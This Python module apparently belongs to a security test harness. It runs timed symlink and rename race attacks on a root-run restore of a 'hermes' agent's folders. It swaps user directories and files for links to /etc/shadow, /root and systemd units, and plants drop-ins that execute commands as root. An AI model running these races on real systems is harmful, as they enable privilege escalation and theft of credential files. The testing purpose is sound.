"""Swaps: a folder of the user's for a link to a folder of root's, and back, as soon as root is at work."""
import os
import time

from common import AT_FDCWD, Attempt, Newcomers, exchange, quietly, write

HOME = os.path.expanduser("~")
HERMES = HOME + "/.hermes"

# What says that somebody is at work with the files: programs, and the words that our own programs are started with.
AT_WORK = ("python3", "tar ", "cp ", "chown ", "chmod ", "mv ", "git ", "find ", "install ", "cat ", "rm ", "mkdir ", "test ", "stat ", "setpriv", "runuser")
# A restore goes on after these only when it finds everything as it should be: it is let pass.
ONLY_LOOKS = (" stage", " verify", " whose", " keys", " count", " survey", " tidy")


class Swap(Attempt):
    """`path` against a link to `target`. Each newcomer gets the next of the rhythms: wait so long, stay away so long."""

    pause = 0.002
    path, target = HERMES, "/etc/systemd/system"
    rhythms = ((0, 0.004), (0.03, 0.06), (0, 0.4), (0.15, 0.15))
    # Without anybody at work: so often, for a moment.
    by_itself = 1.5
    # Every so many of those who are at work. A restore that is disturbed all the time never comes to the step that counts.
    every = 3

    def begin(self):
        self.away = self.path + ".otherwise"
        heal(self.path, self.away)
        if not os.path.isdir(self.path) or os.path.islink(self.path):
            os.makedirs(self.path, exist_ok=True)
        if os.path.lexists(self.away):
            os.unlink(self.away)
        os.symlink(self.target, self.away)
        self.newcomers, self.next, self.last = Newcomers(), 0, time.monotonic()

    def turn(self):
        if not os.path.lexists(self.away):
            # It was swept up by what restores a folder as a whole.
            os.symlink(self.target, self.away)
        wait = self.asked()
        if wait is None:
            return
        before, during = wait
        time.sleep(before)
        quietly(exchange, self.path, self.away)
        self.tried()
        time.sleep(during)
        heal(self.path, self.away)
        self.last = time.monotonic()
        # Whoever came meanwhile was there already.
        list(self.newcomers.look())

    def asked(self):
        for _, owner, words in self.newcomers.look():
            if owner == 0 and " place" in words:
                return (0, 3.0)
            if self.flow == "restore" and any(word in words for word in ONLY_LOOKS):
                continue
            if any(word in words for word in AT_WORK) and owner in (0, os.getuid()):
                # Not each of them: what is swapped all the time is only refused.
                self.next += 1
                every = 12 if self.flow == "restore" else self.every
                if self.next % every == 0:
                    return self.rhythms[self.next // every % len(self.rhythms)]
        if time.monotonic() - self.last > self.by_itself * (4 if self.flow == "restore" else 1):
            self.last = time.monotonic()
            return (0, self.random.choice((0.001, 0.02, 0.1)))
        return None

    def end(self):
        heal(self.path, self.away)
        quietly(os.unlink, self.away)


def heal(path, away):
    """Whatever moment it was stopped in: the folder where it belongs, the link beside it."""
    if os.path.islink(path) and os.path.isdir(away) and not os.path.islink(away):
        quietly(exchange, path, away)


class SwapHermes(Swap):
    # What a restore would put there: drop-ins of units that it starts itself.
    def begin(self):
        for unit in ("hermes-gateway", "nginx", "docker", "cron"):
            write("%s/%s.service.d/zz-attacker.conf" % (HERMES, unit),
                  "# PLANTED-BY-AN-ATTACKER\n[Service]\nExecStartPre=+-/bin/sh -c 'id -u >/root/pwned-unit'\n")
        super().begin()


class SwapHermesForRoot(Swap):
    """The same folder by a pair of plain renames, with a moment in which there is nothing."""
    target = "/root"
    by_itself = 2.5

    def turn(self):
        wait = self.asked()
        if wait is None:
            return
        time.sleep(wait[0])
        gone = HERMES + ".renamed"
        if not os.path.lexists(gone) and not os.path.islink(HERMES):
            quietly(os.rename, HERMES, gone)
            quietly(os.symlink, self.target, HERMES)
            self.tried()
            time.sleep(min(wait[1], 0.3))
        self.back(gone)

    def begin(self):
        super().begin()
        quietly(os.unlink, self.away)
        self.back(HERMES + ".renamed")

    def end(self):
        self.back(HERMES + ".renamed")

    def back(self, gone):
        if os.path.isdir(gone) and not os.path.islink(gone):
            if os.path.islink(HERMES):
                os.unlink(HERMES)
            elif os.path.isdir(HERMES):
                os.rename(HERMES, HERMES + ".lost-%d" % time.monotonic_ns())
            os.rename(gone, HERMES)


class SwapClaude(Swap):
    path, target = HOME + "/.claude", "/root"


class SwapConfig(Swap):
    path, target = HOME + "/.config", "/etc"
    by_itself = 3


class SwapCheckout(Swap):
    path, target = HERMES + "/hermes-agent", "/etc/systemd"
    by_itself = 4
    rhythms = ((0, 0.004), (0.02, 0.05))

    def begin(self):
        # A checkout that is not there yet is not made up.
        while not os.path.isdir(self.path) and not self.over():
            time.sleep(0.05)
        super().begin()


class ListThenRead(Attempt):
    """Folders whose files are named as those of root's: seen as the user's when they are listed, root's when they are read. Each
    waits longer than the one before it, so that one of them is right."""

    pause = 0.002
    folders = 10

    def begin(self):
        self.pairs = []
        for number in range(self.folders):
            path = "%s/notes-%d" % (HERMES, number)
            away = "%s/.otherwise-notes-%d" % (HOME, number)
            heal(path, away)
            for name in ("shadow", "sentinel-secret", "gshadow"):
                write("%s/%s" % (path, name), "a note of mine\n")
            if os.path.lexists(away):
                os.unlink(away)
            os.symlink("/root" if number % 3 == 2 else "/etc", away)
            self.pairs.append((path, away))
        self.newcomers, self.begun = Newcomers(), None

    def turn(self):
        for _, owner, words in self.newcomers.look():
            looks = " make" in words or "tar " in words or " cp " in words or "otto-install" in words or ".hermes" in words
            if self.begun is None and looks and owner in (0, os.getuid()):
                self.begun = time.monotonic()
        if self.begun is None:
            return
        since = time.monotonic() - self.begun
        for number, (path, away) in enumerate(self.pairs):
            # 0.1 s for the first, 2.6 s for the last, gone for as long again.
            after = 0.1 + number * number * 0.031
            out = after < since < after * 2 + 0.4
            if out != os.path.islink(path):
                quietly(exchange, path, away)
                self.tried()
        if since > 6:
            self.begun = None

    def end(self):
        for path, away in self.pairs:
            heal(path, away)
            quietly(os.unlink, away)


class SwapSettings(Attempt):
    """Single files against links to root's, to devices without an end, and to a pipe that nobody fills."""

    pause = 0.005
    names = ("SOUL.md", "config.yaml", ".env", "auth.json")
    targets = ("/etc/shadow", "/root/sentinel-secret", "/dev/zero", "pipe", "/etc/victim-swap")

    def begin(self):
        self.newcomers, self.next = Newcomers(), 0
        self.end()

    def turn(self):
        busy = [words for _, owner, words in self.newcomers.look() if owner == 0]
        if not busy and self.random.random() > 0.01:
            return
        self.next += 1
        name = self.names[self.next % len(self.names)]
        target = self.targets[self.next // len(self.names) % len(self.targets)]
        path, away = "%s/%s" % (HERMES, name), "%s/.otherwise-%s" % (HERMES, name)
        if os.path.lexists(away) or not os.path.isfile(path) or os.path.islink(path):
            return
        os.mkfifo(away, 0o600) if target == "pipe" else os.symlink(target, away)
        exchange(path, away)
        self.tried()
        time.sleep(self.random.choice((0.003, 0.02, 0.08)))
        self.settle(path, away)

    def settle(self, path, away):
        """The file is the one of the two that is a file; one that somebody has written meanwhile is the newer."""
        if os.path.isfile(away) and not os.path.islink(away):
            if os.path.islink(path) or not os.path.isfile(path):
                quietly(os.rename, away, path)
        quietly(os.unlink, away)

    def end(self):
        for name in self.names:
            self.settle("%s/%s" % (HERMES, name), "%s/.otherwise-%s" % (HERMES, name))


class RenamedHome(Attempt):
    """What is in the home goes elsewhere and comes back, folder by folder: the home itself is in a folder of root's."""

    pause = 1.1
    parts = (".hermes", ".claude", ".config", ".local")

    def begin(self):
        self.end()

    def turn(self):
        for part in self.parts:
            path = "%s/%s" % (HOME, part)
            if os.path.isdir(path) and not os.path.islink(path) and not os.path.lexists(path + ".elsewhere"):
                os.rename(path, path + ".elsewhere")
                self.tried()
                time.sleep(self.random.choice((0.002, 0.03, 0.12)))
                self.back(path)

    def back(self, path):
        if not os.path.isdir(path + ".elsewhere"):
            return
        if os.path.lexists(path):
            quietly(os.rename, path, "%s.lost-%d" % (path, time.monotonic_ns()))
        quietly(os.rename, path + ".elsewhere", path)

    def end(self):
        for part in self.parts:
            self.back("%s/%s" % (HOME, part))


assert AT_FDCWD == -100
